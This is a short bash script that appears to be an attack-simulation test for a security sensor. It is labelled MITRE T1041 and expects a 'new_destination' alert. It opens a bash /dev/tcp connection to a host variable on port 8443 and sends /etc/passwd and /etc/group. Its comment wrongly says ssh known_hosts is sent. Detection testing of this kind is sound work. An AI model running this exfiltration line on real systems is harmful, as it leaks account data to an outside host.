#!/usr/bin/env bash
# tactic: exfiltration
# technique: T1041 Exfiltration Over C2 Channel
# behaviour: sends /etc/passwd and the user's ssh known_hosts over a bash /dev/tcp connection (no tool at all)
# as: user
# needs: remote
# expect: new_destination
set -u
exec 3<>/dev/tcp/$SNTL_REMOTE/8443
cat /etc/passwd /etc/group >&3
exec 3>&-
